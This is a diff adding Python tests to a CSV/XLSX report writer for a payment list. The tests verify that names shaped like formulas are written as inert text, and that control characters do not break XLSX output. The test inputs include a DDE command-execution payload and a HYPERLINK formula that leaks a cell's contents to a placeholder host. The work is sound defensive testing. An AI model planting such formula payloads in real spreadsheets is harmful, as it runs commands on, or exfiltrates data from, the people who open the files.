@@ -438,6 +438,33 @@ def test_html_is_escaped_and_csv_has_a_bom(tmp_path: Path) -> None:
         write(table, tmp_path / "t.pdf")
 
 
+INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+1",
+              "-2+3", "@SUM(A1)", "＝1+1"]
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+def test_spreadsheet_formulas_in_names_are_written_as_text(tmp_path: Path, name: str) -> None:
+    """A name starting like a formula is quoted in CSV and stored as text in XLSX; the
+    money column keeps its numbers (a negative amount stays a number)."""
+    table = Table("stats", "发放表", (Column("name", "姓名"), Column("m", "金额", "money")),
+                  (Row({"name": name, "m": -60000}),))
+    rows = list(csv.reader(io.StringIO(write(table, tmp_path / "t.csv").read_bytes()
+                                       .decode("utf-8-sig"))))
+    assert rows[1] == ["'" + name, "-600.00"]
+    write(table, tmp_path / "t.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
+    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert "'" + name in [c.value for c in cells]
+
+
+def test_control_characters_do_not_stop_an_xlsx_report(tmp_path: Path) -> None:
+    """A control character in a name once made the XLSX reports exit 70 for the village."""
+    table = Table("stats", "名单", (Column("name", "姓名"),), (Row({"name": "张\x01三\x1b"}),))
+    write(table, tmp_path / "t.xlsx")
+    assert "张三" in read_back(tmp_path / "t.xlsx")
+
+
 # -- the command line (once cli.py registers `bangfu report`) ---------------------
 
 def _has_report_notice() -> bool:
